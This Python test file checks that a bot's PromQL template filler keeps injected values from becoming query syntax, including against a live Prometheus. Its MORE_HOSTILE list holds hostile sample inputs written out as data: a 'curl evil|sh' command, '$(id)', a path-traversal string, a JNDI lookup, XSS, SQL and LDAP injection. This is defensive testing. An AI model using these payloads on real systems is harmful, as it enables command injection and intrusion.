"""No value ever becomes syntax: not by the parser's word, and not by a real Prometheus' that holds such values."""

import asyncio
import contextlib
import itertools
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path

import promql_parser
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.errors import Permanent
from bot.integrations.prometheus.client import PrometheusSource
from bot.integrations.prometheus.config import PrometheusConfig
from bot.integrations.prometheus.expr import fill
from bot.kit.http_out import HttpOut
from bot.kit.plugin import Tools
from bot.kit.redaction import Redactor
from bot.kit.way_in import Access, access
from bot.testing.clock import FakeClock
from bot.testing.contracts import HOSTILE
from tests.hostile import corpus
from tests.integrations.prometheus.remote_write import write
from tests.servers import PrometheusServer
from tests.soak import many

TEMPLATES = (
    'm{a="$v"}',
    "m{a='$v'}",
    "m{a=`$v`}",
    'm{a!="$v", b="fixed"}',
    'm{a=~"$v"}',
    "m{a!~'$v'}",
    "m{a=~`$v`}",
    'm{a=~"x.*$v|y", b="$v"}',
    'sum by (b) (rate(m{a="$v"}[5m])) / on (b) m{b="c # no comment"} > 3 # a "comment" with $v',
)
MORE_HOSTILE = (
    "web-1; curl evil|sh",
    "$(id)",
    "`id`",
    "-oProxyCommand=touch /tmp/x",
    "--kubeconfig=/x",
    "../../etc/passwd",
    "\n- name: x",
    "{{ ''.__class__ }}",
    "${jndi:ldap://x}",
    "<img src=x onerror=alert(1)>",
    "=cmd|'/c calc'!A1",
    "<!channel>",
    "\x1b]0;title\x07",
    "\r\nSet-Cookie: a=b",
    "*)(uid=*))(|(uid=*",
    "' OR 1=1--",
    "| delete",
    "\\Q.*\\E",
    "(?:",
    "a{2}",
    "^$",
    "\\x41",
    "\\u0041",
    "\U0010ffff",
)
ALPHABET = st.characters(codec="utf-8") | st.sampled_from("\"'`\\$#{}[]()|*+?.^~=!\n\r\t\x00\x7fanv ")
VALUES = st.text(ALPHABET, min_size=1, max_size=40) | st.sampled_from((*HOSTILE, *MORE_HOSTILE))


def matchers(expr: str) -> list[tuple[str, str, str]]:
    """Every matcher of every selector, in order: name, operator, value."""
    found: list[tuple[str, str, str]] = []

    def look(node: promql_parser.Expr) -> bool:
        if isinstance(node, promql_parser.VectorSelector):
            found.extend((one.name, str(one.op), one.value) for one in node.matchers.matchers)
        return True

    promql_parser.walk(promql_parser.parse(expr), look)
    return found


@given(VALUES, st.sampled_from(TEMPLATES))
def test_only_the_value_changes(value: str, template: str) -> None:
    before, after = matchers(template), matchers(fill(template, {"v": value}, "prom"))
    assert [matcher[:2] for matcher in before] == [matcher[:2] for matcher in after]
    for (_, operator, written), (_, _, filled) in zip(before, after, strict=True):
        if operator in (str(promql_parser.MatchOp.Equal), str(promql_parser.MatchOp.NotEqual)):
            assert filled == written.replace("$v", value)
        elif "$v" not in written:
            assert filled == written


@pytest.mark.parametrize("template", TEMPLATES)
def test_no_text_that_is_syntax_somewhere_is_syntax_here(template: str, tmp_path: Path) -> None:
    shape, filled = [one[:2] for one in matchers(template)], 0
    for text in corpus(tmp_path / "canary"):
        with contextlib.suppress(Permanent):
            assert [one[:2] for one in matchers(fill(template, {"v": text}, "prom"))] == shape, text
            filled += 1
    assert filled > 300


@given(st.text(st.characters(codec="utf-8") | st.sampled_from("\"'`$#{}=~v\\"), max_size=30), VALUES)
def test_any_expression_is_filled_or_refused(expr: str, value: str) -> None:
    with contextlib.suppress(Permanent):
        filled = fill(expr, {"v": value}, "prom")
        assert len(matchers(filled)) == len(matchers(expr))


@pytest.mark.parametrize(
    ("expr", "complaint"),
    [
        ("m{a=$v}", "outside a string"),
        ('label_replace(m, "a", "$v", "b", "(.*)")', "only in the value of a label"),
        ('label_replace(m, "a", "$1", "b", "$v")', "only in the value of a label"),
        ('count_values("$v", m)', "only in the value of a label"),
        ('m{a=~"[$v]"}', "inside"),
        ('m{a=~"[^]x$v]"}', "inside"),
        ('m{a=~"[[:alpha:]$v]"}', "inside"),
        ('m{a=~"\\\\$v"}', "backslash"),
        ("m{a=~`\\$v`}", "backslash"),
        ('m{a="$w"}', "did you mean 'v'|no variable is called"),
        ('m{a="$v}', "never closed"),
        ('m{a="$v"', "not a PromQL expression"),
    ],
)
def test_where_a_value_could_become_syntax_none_may_stand(expr: str, complaint: str) -> None:
    with pytest.raises(Permanent, match=complaint):
        fill(expr, {"v": "value"}, "prom")


def test_a_value_that_is_no_text_is_refused() -> None:
    with pytest.raises(Permanent, match="Unicode"):
        fill('m{a="$v"}', {"v": "\ud800"}, "prom")


def test_what_names_no_variable_stays_as_it_was_written() -> None:
    expr = 'label_replace(m{a=~"x$", b="\\"", c=`\\d`}, "a", "$1-${2}", "b", "(.*)") # $5'
    assert fill(expr, {"v": "1"}, "prom") == expr


numbers = itertools.count()


@pytest.fixture
def way_in(prometheus: PrometheusServer) -> Access:
    tools = Tools(name="prom", clock=FakeClock(), http=HttpOut(), redactor=Redactor())
    return access(PrometheusConfig(url=prometheus.url), tools)


def matches(way_in: Access, values: list[str], template: str) -> Mapping[str, list[str]]:
    """For each value, which of all these values a real Prometheus finds when it is asked for that one."""
    metric, now = f"hostile_{next(numbers)}", datetime.now(UTC)
    write(way_in.url, [({"__name__": metric, "a": value}, now, 1.0) for value in values])

    async def ask() -> Mapping[str, list[str]]:
        source = PrometheusSource(way_in)
        at = now + timedelta(milliseconds=1)
        try:
            answers = [await source.query(template.replace("m{", f"{metric}{{"), {"v": v}, at) for v in values]
        finally:
            await source.aclose()
        return {
            value: [sample.labels["a"] for sample in answer.samples]
            for value, answer in zip(values, answers, strict=True)
        }

    return asyncio.run(ask())


@pytest.mark.parametrize("template", ['m{a="$v"}', 'm{a=~"$v"}', "m{a=~`$v`}", "m{a=~'(nobody|$v)'}"])
def test_each_known_hostile_value_matches_itself_alone(way_in: Access, template: str) -> None:
    values = [*HOSTILE, *MORE_HOSTILE, "plain"]
    assert matches(way_in, values, template) == {value: [value] for value in values}


@pytest.mark.parametrize("template", ['m{a!="$v"}', 'm{a!~"$v"}'])
def test_each_known_hostile_value_excludes_itself_alone(way_in: Access, template: str) -> None:
    values = [*HOSTILE, "plain"]
    found = matches(way_in, values, template)
    assert {value: set(values) - set(others) for value, others in found.items()} == {value: {value} for value in values}


@settings(max_examples=many(15, 500), suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    values=st.lists(VALUES, min_size=2, max_size=20, unique=True), template=st.sampled_from(('m{a="$v"}', 'm{a=~"$v"}'))
)
def test_any_value_matches_itself_alone(way_in: Access, values: list[str], template: str) -> None:
    assert matches(way_in, values, template) == {value: [value] for value in values}
